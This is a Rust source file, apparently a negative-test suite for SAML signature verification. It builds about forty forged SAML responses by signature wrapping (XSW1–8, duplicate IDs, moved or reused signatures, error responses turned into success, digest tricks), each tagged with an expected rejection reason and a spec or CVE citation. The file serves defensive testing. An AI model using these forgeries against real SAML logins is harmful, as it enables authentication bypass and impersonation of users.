//! Signature wrapping: what was verified and what is read are two elements.

use super::parts::Parts;
use super::signer::{Forge, ForgeFail, cut, first_assertion, first_signature, swap};
use super::{Recipe, recipe};

const SUCCESS: &str = "urn:oasis:names:tc:SAML:2.0:status:Success";
const XSW: &str = "Somorovsky et al., On Breaking SAML, 2012; SAML Raider; CVE-2026-47201, CVE-2026-58066";

/// A genuine document with a signed assertion, taken apart, and a forged assertion without a signature.
struct Pieces {
    genuine: Parts,
    forged: Parts,
    /// The whole document.
    document: String,
    /// The signed assertion.
    original: String,
    signature: String,
    /// The assertion without its signature.
    bare: String,
    evil: String,
}

impl Pieces {
    fn of(f: &Forge) -> Result<Pieces, ForgeFail> {
        let (genuine, forged) = (f.genuine(), f.forged());
        let document = genuine.assertion_signed(f)?;
        let original = first_assertion(&document)?.to_owned();
        let signature = first_signature(&original)?.to_owned();
        let bare = original.replace(&signature, "");
        let evil = forged.assertion_with("", "");
        Ok(Pieces { genuine, forged, document, original, signature, bare, evil })
    }

    /// The forged response around this.
    fn around(&self, inside: &str) -> String {
        self.forged.unsigned_response(inside)
    }

    /// The forged assertion with the ID of the genuine one.
    fn same_id(&self) -> Parts {
        Parts { assertion_id: self.genuine.assertion_id.clone(), ..self.forged.clone() }
    }

    /// The forged parts with this in the first value of an attribute, or in one of its own.
    fn in_attribute(&self, inside: &str) -> Parts {
        const VALUE: &str = "<saml:AttributeValue>";
        let attributes = match self.forged.attributes.split_once(VALUE) {
            Some((before, rest)) => {
                let behind = rest.split_once('<').map_or(String::new(), |(_, behind)| format!("<{behind}"));
                format!("{before}{VALUE}{inside}{behind}")
            }
            None => format!(
                "<saml:AttributeStatement><saml:Attribute Name=\"x\">{VALUE}{inside}</saml:AttributeValue>\
                 </saml:Attribute></saml:AttributeStatement>"
            ),
        };
        Parts { attributes, ..self.forged.clone() }
    }
}

/// A signed response, its signature, and the response without it.
fn signed_response(f: &Forge) -> Result<(String, String, String), ForgeFail> {
    let response = f.genuine().response_signed(f)?;
    let signature = first_signature(&response)?.to_owned();
    let bare = response.replace(&signature, "");
    Ok((response, signature, bare))
}

/// A response of failure that the identity provider signed.
fn signed_error(f: &Forge) -> Result<String, ForgeFail> {
    let genuine = f.genuine();
    let status = swap(&genuine.status, SUCCESS, "urn:oasis:names:tc:SAML:2.0:status:Responder")?;
    let refused = Parts { status, ..genuine };
    f.sign(&refused.response(""), &refused.response_id)
}

fn with_signature_of(f: &Forge, other: &str) -> Result<String, ForgeFail> {
    let forged = f.forged();
    Ok(forged.unsigned_response(&forged.assertion_with(first_signature(other)?, "")))
}

fn logout_request(f: &Forge) -> Result<String, ForgeFail> {
    let id = f.id("_evil");
    let request = format!(
        "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"{id}\" \
         Version=\"2.0\" IssueInstant=\"{}\">{{sign:{id}}}</samlp:LogoutRequest>",
        f.issued()
    );
    f.sign(&request, &id)
}

pub const RECIPES: &[Recipe] = &[
    recipe(
        "xsw1",
        "assertion_misplaced",
        "The signed response stands inside of its own signature, and a forged response around both.",
        XSW,
        |f| {
            let (_, signature, bare) = signed_response(f)?;
            let forged = f.forged();
            let evil = forged.assertion_with("", "");
            Ok(forged.response_with(&f.id("_evil_r"), &put_into(&signature, &bare), "", &evil))
        },
    ),
    recipe(
        "xsw2",
        "unexpected_child",
        "The signed response stands beside its signature, and a forged response around both.",
        XSW,
        |f| {
            let (_, signature, bare) = signed_response(f)?;
            let forged = f.forged();
            let evil = forged.assertion_with("", "");
            Ok(forged.response_with(&f.id("_evil_r"), &[bare, signature].concat(), "", &evil))
        },
    ),
    recipe("xsw3", "several_assertions", "A forged assertion stands before the signed one.", XSW, |f| {
        let p = Pieces::of(f)?;
        Ok(p.around(&[&*p.evil, &p.original].concat()))
    }),
    recipe(
        "xsw4",
        "assertion_misplaced",
        "The signed assertion stands inside of the forged one.",
        XSW,
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&p.forged.assertion_with("", &p.original)))
        },
    ),
    recipe(
        "xsw5",
        "several_assertions",
        "The forged assertion carries the signature, and the assertion that it covers follows.",
        XSW,
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&[&*p.forged.assertion_with(&p.signature, ""), &p.bare].concat()))
        },
    ),
    recipe(
        "xsw6",
        "assertion_misplaced",
        "The forged assertion carries the signature, and the assertion that it covers stands inside of the signature.",
        XSW,
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&p.forged.assertion_with(&put_into(&p.signature, &p.bare), "")))
        },
    ),
    recipe(
        "xsw7",
        "assertion_misplaced",
        "The forged assertion stands in the extensions of the response, before the signed one.",
        XSW,
        |f| {
            let p = Pieces::of(f)?;
            let id = &p.genuine.response_id;
            Ok(p.genuine.response_with(id, "", &extensions(&p.evil), &p.original))
        },
    ),
    recipe(
        "xsw8",
        "assertion_misplaced",
        "The forged assertion carries the signature, which has the signed assertion in an object.",
        XSW,
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&p.forged.assertion_with(&put_into(&p.signature, &object(&p.bare)), "")))
        },
    ),
    recipe(
        "signed_original_in_advice",
        "unsigned",
        "The signed assertion stands in the advice of the forged one.",
        "SAML core 2.6.1",
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&p.forged.assertion_with("", &advice(&p.original))))
        },
    ),
    recipe(
        "original_in_advice_signature_outside",
        "signature_reference_uri",
        "The forged assertion carries the signature, and the assertion that it covers stands in its advice.",
        "SAML core 2.6.1, 5.4.2",
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&p.forged.assertion_with(&p.signature, &advice(&p.bare))))
        },
    ),
    recipe(
        "original_in_advice_same_id",
        "signature_duplicate_id",
        "As before, and both assertions have the same ID.",
        "SAML core 1.3.4, 5.4.2",
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&p.same_id().assertion_with(&p.signature, &advice(&p.bare))))
        },
    ),
    recipe(
        "duplicate_ids",
        "several_assertions",
        "A forged assertion with the ID of the signed one stands before it.",
        "SAML core 1.3.4",
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&[&*p.same_id().assertion_with("", ""), &p.original].concat()))
        },
    ),
    recipe(
        "original_in_status_detail",
        "assertion_misplaced",
        "The signed assertion stands in the detail of the status.",
        "SAML core 3.2.2.4",
        |f| {
            let p = Pieces::of(f)?;
            let detail = format!("<samlp:StatusDetail>{}</samlp:StatusDetail></samlp:Status>", p.original);
            let status = swap(&p.genuine.status, "</samlp:Status>", &detail)?;
            Ok(Parts { status, ..p.forged.clone() }.unsigned_response(&p.evil))
        },
    ),
    recipe(
        "original_in_an_attribute_value",
        "assertion_misplaced",
        "The forged assertion carries the signature, and the assertion that it covers stands in an attribute value.",
        "SAML core 2.7.3.1.1",
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&p.in_attribute(&p.bare).assertion_with(&p.signature, "")))
        },
    ),
    recipe(
        "original_in_key_info",
        "assertion_misplaced",
        "The forged assertion carries the signature, which has the signed assertion in its key information.",
        "XML Signature 4.5",
        |f| {
            let p = Pieces::of(f)?;
            let info = format!("<ds:KeyInfo>{}</ds:KeyInfo>", p.bare);
            Ok(p.around(&p.forged.assertion_with(&put_into(&p.signature, &info), "")))
        },
    ),
    recipe(
        "xsw_extensions",
        "assertion_misplaced",
        "The genuine response stands in the extensions of a response with the forged assertion.",
        "OneUptime#2949",
        |f| {
            let p = Pieces::of(f)?;
            let inner = p.genuine.unsigned_response(&p.original);
            Ok(p.genuine.response_with(&f.id("_r0"), "", &extensions(&inner), &p.evil))
        },
    ),
    recipe(
        "original_response_as_a_child",
        "unexpected_child",
        "The genuine response is a child of a response with the forged assertion.",
        "SAML core 3.3.3",
        |f| {
            let p = Pieces::of(f)?;
            let inner = p.genuine.unsigned_response(&p.original);
            Ok(p.genuine.response_with(&f.id("_r0"), "", &inner, &p.evil))
        },
    ),
    recipe(
        "signature_of_the_assertion_in_the_response",
        "signature_reference_uri",
        "The signature of the assertion stands where that of the response belongs.",
        "SAML core 5.4.2",
        |f| {
            let genuine = f.genuine();
            let mark = format!("{{sign:{}}}", genuine.assertion_id);
            let document =
                genuine.response_with(&genuine.response_id, &mark, "", &genuine.assertion_with("", ""));
            f.sign(&document, &genuine.assertion_id)
        },
    ),
    recipe(
        "signature_in_extensions",
        "signature_misplaced",
        "The signature stands in the extensions of the response, apart from the forged assertion.",
        "SAML core 5.4.1",
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.forged.response_with(&p.forged.response_id, "", &extensions(&p.signature), &p.evil))
        },
    ),
    recipe(
        "signature_deep_in_the_assertion",
        "signature_misplaced",
        "The signature stands in an attribute value of the forged assertion.",
        "SAML core 5.4.1",
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&p.in_attribute(&p.signature).assertion_with("", "")))
        },
    ),
    recipe(
        "response_and_assertion_share_an_id",
        "signature_duplicate_id",
        "The response has the ID that the signature of the assertion names.",
        "SAML core 1.3.4",
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.genuine.response_with(&p.genuine.assertion_id, "", "", &p.original))
        },
    ),
    recipe(
        "two_assertions",
        "several_assertions",
        "A forged assertion follows the signed one.",
        "CVE-2022-41912",
        |f| {
            let p = Pieces::of(f)?;
            Ok(p.around(&[&*p.original, &p.evil].concat()))
        },
    ),
    recipe(
        "two_roots",
        "xml_outside_root",
        "A forged response follows the genuine one in the same document.",
        "CVE-2022-39299",
        |f| {
            let p = Pieces::of(f)?;
            Ok([&*p.document, &p.around(&p.evil)].concat())
        },
    ),
    recipe(
        "two_roots_forged_first",
        "xml_outside_root",
        "A genuine response follows the forged one in the same document.",
        "CVE-2022-39299",
        |f| {
            let p = Pieces::of(f)?;
            Ok([&*p.around(&p.evil), &p.document].concat())
        },
    ),
    recipe(
        "wrapped_in_another_root",
        "not_a_response",
        "One element holds the genuine and a forged response.",
        "SAML bindings 3.5.4",
        |f| {
            let p = Pieces::of(f)?;
            Ok(format!("<x>{}{}</x>", p.document, p.around(&p.evil)))
        },
    ),
    recipe(
        "assertion_by_itself",
        "not_a_response",
        "The signed assertion comes without a response around it.",
        "SAML profiles 4.1.4.2",
        |f| Ok(Pieces::of(f)?.original),
    ),
    recipe(
        "assertion_in_another_namespace",
        "unexpected_child",
        "A forged assertion in an invented namespace stands before the signed one.",
        "SAML core 1.2",
        |f| {
            let p = Pieces::of(f)?;
            let other = swap(&p.evil, "urn:oasis:names:tc:SAML:2.0:assertion", "urn:x")?;
            Ok(p.around(&[&*other, &p.original].concat()))
        },
    ),
    recipe(
        "signed_error_carrier",
        "status_not_success",
        "A signed response of failure gets a forged assertion.",
        "OneUptime#2981",
        |f| {
            let evil = f.forged().assertion_with("", "");
            swap(&signed_error(f)?, "</samlp:Response>", &format!("{evil}</samlp:Response>"))
        },
    ),
    recipe(
        "signed_error_with_an_object",
        "status_not_success",
        "A signed response of failure gets a forged assertion in an object of its signature.",
        "OneUptime#2981",
        |f| {
            let error = signed_error(f)?;
            let signature = first_signature(&error)?.to_owned();
            let evil = f.forged().assertion_with("", "");
            Ok(error.replace(&signature, &put_into(&signature, &object(&evil))))
        },
    ),
    recipe(
        "signed_error_turned_into_success",
        "signature_digest",
        "A signed response of failure is changed to success and gets a forged assertion.",
        "SAML core 3.2.2.2",
        |f| {
            let evil = f.forged().assertion_with("", "");
            let turned = swap(&signed_error(f)?, "status:Responder", "status:Success")?;
            swap(&turned, "</samlp:Response>", &format!("{evil}</samlp:Response>"))
        },
    ),
    recipe(
        "object_in_the_signature_of_a_response",
        "assertion_misplaced",
        "The signature of a genuine response gets an object with a forged assertion.",
        "XML Signature 4.6",
        |f| {
            let (response, signature, _) = signed_response(f)?;
            let evil = f.forged().assertion_with("", "");
            Ok(response.replace(&signature, &put_into(&signature, &object(&evil))))
        },
    ),
    recipe(
        "decoy_signature",
        "signature_several",
        "A copy of the signature with an object stands before the signature.",
        "SAML core 5.4.1",
        |f| {
            let (response, signature, _) = signed_response(f)?;
            let decoy = put_into(&signature, &object("<x/>"));
            Ok(response.replace(&signature, &[&*decoy, &signature].concat()))
        },
    ),
    recipe(
        "signature_of_a_logout_request",
        "signature_digest",
        "The forged assertion carries the signature of a logout request with its ID.",
        "SAML core 5.4.2",
        |f| with_signature_of(f, &logout_request(f)?),
    ),
    recipe(
        "golden_signature",
        "signature_digest",
        "The forged assertion carries the signature of the identity provider's metadata.",
        "CVE-2024-6800",
        |f| {
            let id = f.id("_evil");
            let metadata = format!(
                "<md:EntityDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\" ID=\"{id}\" \
                 entityID=\"{}\">{{sign:{id}}}</md:EntityDescriptor>",
                f.idp()
            );
            with_signature_of(f, &f.sign(&metadata, &id)?)
        },
    ),
    recipe(
        "logout_request_with_an_assertion",
        "not_a_response",
        "A signed logout request carries a signed assertion.",
        "SAML core 3.7.1",
        |f| {
            let p = Pieces::of(f)?;
            swap(
                &logout_request(f)?,
                "</samlp:LogoutRequest>",
                &format!("{}</samlp:LogoutRequest>", p.original),
            )
        },
    ),
    recipe(
        "digest_elsewhere",
        "signature_digest",
        "The name is changed, and the genuine digest stands a second time in the detail of the status.",
        "CVE-2024-45409",
        |f| {
            let p = Pieces::of(f)?;
            let digest = cut(&p.document, "<ds:DigestValue>", "</ds:DigestValue>")?;
            let detail = format!(
                "<samlp:StatusDetail><x xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">{digest}</x>\
                 </samlp:StatusDetail></samlp:Status>"
            );
            swap(&p.document.replace(&f.name(), &f.marker()), "</samlp:Status>", &detail)
        },
    ),
];

fn put_into(signature: &str, inside: &str) -> String {
    signature.replace("</ds:Signature>", &format!("{inside}</ds:Signature>"))
}

fn object(inside: &str) -> String {
    format!("<ds:Object>{inside}</ds:Object>")
}

fn advice(inside: &str) -> String {
    format!("<saml:Advice>{inside}</saml:Advice>")
}

fn extensions(inside: &str) -> String {
    format!("<samlp:Extensions>{inside}</samlp:Extensions>")
}
